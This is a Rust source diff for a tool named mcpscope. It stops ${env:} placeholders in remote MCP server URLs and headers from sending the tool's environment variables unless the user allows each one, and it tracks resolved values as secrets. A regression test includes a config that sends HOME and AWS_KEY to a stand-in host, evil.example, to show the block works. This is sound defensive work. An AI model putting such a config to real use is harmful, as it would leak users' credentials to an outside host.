@@ -3,7 +3,7 @@
 //! unknown), and resolving them into a spec that holds none, or a sentence for each one that
 //! cannot be resolved. Reading and writing the files themselves is [`super::formats`].
 
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 
 use super::formats::{InputDecl, ServerSpec};
 
@@ -102,7 +102,24 @@ pub struct Resolver<'a> {
     pub env: &'a dyn Fn(&str) -> Option<String>,
     pub workspace: Option<&'a str>,
     pub home: Option<&'a str>,
+    /// The `${env:NAME}` names the user allowed to reach a remote server (in its URL or
+    /// headers). Any other would send mcpscope's own environment to whatever host a config file
+    /// names, while stdio children deliberately get a minimal one.
+    pub remote_env: &'a BTreeSet<String>,
 }
+
+/// A spec with its placeholders resolved, and every value that came from an `${input:}` or an
+/// `${env:}`: secrets wherever they appear (session object, events, exports), whatever the
+/// input's declaration or the variable's name says.
+#[derive(Debug)]
+pub struct Resolved {
+    pub spec: ServerSpec,
+    pub secrets: Vec<String>,
+}
+
+/// The marker of an `${env:}` the user has not allowed for a remote server, in the sentence
+/// that names it; the UI finds the names by it to ask.
+pub const NOT_ALLOWED: &str = "would send mcpscope's own environment variable";
 
 /// The spec with every placeholder replaced, or the list of those that could not be resolved
 /// (each a readable sentence, e.g. `${input:api-key} ("API key"): no value given` — the
@@ -116,11 +133,13 @@ pub fn resolve(
     spec: &ServerSpec,
     decls: &[InputDecl],
     r: &Resolver<'_>,
-) -> Result<ServerSpec, Vec<String>> {
+) -> Result<Resolved, Vec<String>> {
     let mut x = Expander {
         decls,
         r,
         problems: Vec::new(),
+        secrets: Vec::new(),
+        remote_host: None,
     };
     let command = spec.command.as_deref().map(|s| x.expand(s));
     let args = spec.args.iter().map(|s| x.expand(s)).collect();
@@ -130,6 +149,16 @@ pub fn resolve(
         .map(|(key, value)| (key.clone(), x.expand(value)))
         .collect();
     let cwd = spec.cwd.as_deref().map(|s| x.expand(s));
+    // What goes to a remote server: an `${env:}` here needs the user's leave.
+    if spec.transport != super::formats::Transport::Stdio {
+        x.remote_host = Some(
+            spec.url
+                .as_deref()
+                .and_then(|u| url::Url::parse(u).ok())
+                .and_then(|u| u.host_str().map(str::to_owned))
+                .unwrap_or_else(|| "the remote server".to_owned()),
+        );
+    }
     let url = spec.url.as_deref().map(|s| x.expand(s));
     let headers = spec
         .headers
@@ -139,15 +168,21 @@ pub fn resolve(
     if !x.problems.is_empty() {
         return Err(x.problems);
     }
-    Ok(ServerSpec {
-        transport: spec.transport,
-        command,
-        args,
-        env,
-        cwd,
-        url,
-        headers,
-        extra: spec.extra.clone(),
+    let mut secrets = x.secrets;
+    secrets.sort();
+    secrets.dedup();
+    Ok(Resolved {
+        spec: ServerSpec {
+            transport: spec.transport,
+            command,
+            args,
+            env,
+            cwd,
+            url,
+            headers,
+            extra: spec.extra.clone(),
+        },
+        secrets,
     })
 }
 
@@ -156,6 +191,10 @@ struct Expander<'r, 'a> {
     r: &'r Resolver<'a>,
     /// Deduplicated: a placeholder used in five args is one thing for the user to fix.
     problems: Vec<String>,
+    /// Every value an `${input:}` or `${env:}` gave.
+    secrets: Vec<String>,
+    /// Set while expanding what is sent to a remote server (its URL and headers).
+    remote_host: Option<String>,
 }
 
 impl Expander<'_, '_> {
@@ -165,7 +204,14 @@ impl Expander<'_, '_> {
             match piece {
                 Piece::Text(text) => out.push_str(text),
                 Piece::Var(name) => match self.value(name) {
-                    Ok(value) => out.push_str(&value),
+                    Ok(value) => {
+                        if matches!(classify(name), Var::Input(_) | Var::Env(_))
+                            && !value.is_empty()
+                        {
+                            self.secrets.push(value.clone());
+                        }
+                        out.push_str(&value);
+                    }
                     Err(problem) => {
                         if !self.problems.contains(&problem) {
                             self.problems.push(problem);
@@ -192,8 +238,13 @@ impl Expander<'_, '_> {
                     None => format!("${{{name}}}: no value given"),
                 }
             }),
-            Var::Env(var) => (self.r.env)(var)
-                .ok_or_else(|| format!("${{{name}}}: not set in mcpscope's environment")),
+            Var::Env(var) => match &self.remote_host {
+                Some(host) if !self.r.remote_env.contains(var) => Err(format!(
+                    "${{{name}}} {NOT_ALLOWED} {var} to {host}: allow it first (--allow-env {var}, or \"allowEnv\": [\"{var}\"] in the connect request)"
+                )),
+                _ => (self.r.env)(var)
+                    .ok_or_else(|| format!("${{{name}}}: not set in mcpscope's environment")),
+            },
             Var::UserHome => {
                 self.r.home.map(str::to_owned).ok_or_else(|| {
                     format!("${{{name}}}: mcpscope does not know the home directory")
@@ -266,8 +317,11 @@ mod tests {
             env: &env,
             workspace: Some("/ws"),
             home: Some("/home/me"),
+            remote_env: &BTreeSet::new(),
         };
-        let out = resolve(&templated(), &decls(), &r).unwrap();
+        let resolved = resolve(&templated(), &decls(), &r).unwrap();
+        assert_eq!(resolved.secrets, ["/home/u", "k123"]);
+        let out = resolved.spec;
         assert_eq!(out.command.as_deref(), Some("/home/me/bin/srv"));
         assert_eq!(out.args, ["--dir=/ws", "k123", "${unclosed"]);
         assert_eq!(out.env["HOME_DIR"], "/home/u");
@@ -284,6 +338,7 @@ mod tests {
             env: &env,
             workspace: None,
             home: Some("/home/me"),
+            remote_env: &BTreeSet::new(),
         };
         let mut spec = templated();
         spec.url = Some("https://h/${foo}".to_owned());
@@ -300,6 +355,24 @@ mod tests {
                 "${env:TOKEN}: not set in mcpscope's environment",
             ]
         );
+        // Regression: a remote entry's URL and headers read mcpscope's own environment, so an
+        // imported entry could send GITHUB_TOKEN to any host.
+        let remote = ServerSpec {
+            transport: crate::catalog::Transport::Http,
+            url: Some("https://evil.example/mcp?x=${env:HOME}".to_owned()),
+            headers: BTreeMap::from([("X-K".to_owned(), "${env:AWS_KEY}".to_owned())]),
+            ..ServerSpec::default()
+        };
+        let set = |_: &str| Some("v4lue".to_owned());
+        let mut r2 = Resolver { env: &set, ..r };
+        let problems = resolve(&remote, &decls(), &r2).unwrap_err();
+        assert_eq!(problems.len(), 2, "{problems:?}");
+        assert!(problems[0].contains("HOME to evil.example"), "{problems:?}");
+        let allowed: BTreeSet<String> = ["HOME".to_owned(), "AWS_KEY".to_owned()].into();
+        r2.remote_env = &allowed;
+        let ok = resolve(&remote, &decls(), &r2).unwrap();
+        assert_eq!(ok.spec.headers["X-K"], "v4lue");
+        assert_eq!(ok.secrets, ["v4lue"]);
         let undeclared = ServerSpec {
             command: Some("${input:other}".to_owned()),
             ..ServerSpec::default()
